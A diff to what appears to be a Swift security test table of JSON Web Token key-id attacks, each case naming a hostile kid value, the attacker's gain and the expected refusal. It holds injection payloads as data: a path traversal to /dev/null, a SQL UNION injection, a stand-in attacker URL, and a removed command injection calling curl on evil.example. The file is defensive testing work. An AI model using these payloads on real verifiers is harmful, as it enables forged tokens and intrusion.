@@ -6,41 +6,48 @@ enum KeyIdentifiers {
         "kid-tricks",
         hope: "the key id reaches a file system, a database or a network before it is compared",
         [
-            .named("an unknown kid", "a default key, or the first one of the set", "no-such-key"),
-            .named("an empty kid", "the same, where an empty text finds everything", ""),
+            .named(
+                "an unknown kid",
+                "any token at all, where an unknown id falls back to a default key",
+                "no-such-key"
+            ),
+            .named("an empty kid", "any token at all, where an empty id finds the first key there is", ""),
             .named(
                 "a path as kid",
-                "a file of known contents as the key: /dev/null is an empty secret",
+                "any token at all, under a file of known contents: /dev/null is an empty secret",
                 "../../../../dev/null"
             ),
-            .named("SQL as kid", "a key of the attacker's out of the key table's query", "' UNION SELECT 'forged' --"),
-            .named("a URL as kid", "a key set of the attacker's, fetched by the verifier", "https://evil.example/jwks"),
             .named(
-                "a command as kid",
-                "a shell on the verifier, where ids become file names",
-                "key; curl evil.example"
+                "SQL as kid",
+                "any token at all, under a key that the query for it brings along",
+                "' UNION SELECT 'forged' --"
+            ),
+            .named(
+                "a URL as kid",
+                "any token at all, under a key set that the verifier fetches from the attacker",
+                "https://evil.example/jwks"
             ),
             .forged(
                 "the real kid in other letters",
-                gain: "a second name for one key: a key that was withdrawn under the first lives on",
+                gain: "the use of a withdrawn key under a second name",
                 sent: "the genuine kid in upper case",
                 refused: .keyUnknown
             ) { $0.header("kid", .string($0.keyID.uppercased())).underTheOldSignature },
             .forged(
                 "the real kid and a NUL behind it",
-                gain: "the genuine key for C code, which stops reading there, and another one for the rest",
+                gain: "one key for C code, which stops reading there, and another for the log",
                 sent: "kid: the genuine one and a NUL",
                 refused: .keyUnknown
             ) { $0.header("kid", .string($0.keyID + "\0")).underTheOldSignature },
             .forged(
                 "no kid",
-                gain: "a verifier that tries one key after the other, and takes any",
+                gain: "any token that fits any key, where one is tried after the other",
                 sent: "a header without kid",
                 refused: .tokenMalformed
             ) { try $0.header("kid", nil).signed() },
             .forged(
                 "a list as kid",
-                gain: "one id for the log and another for the lookup",
+                gain: "one key for the lookup and another for the log",
                 sent: "kid: [the genuine one]",
                 refused: .tokenMalformed
             ) { try $0.header("kid", .array([.string($0.keyID)])).signed() },
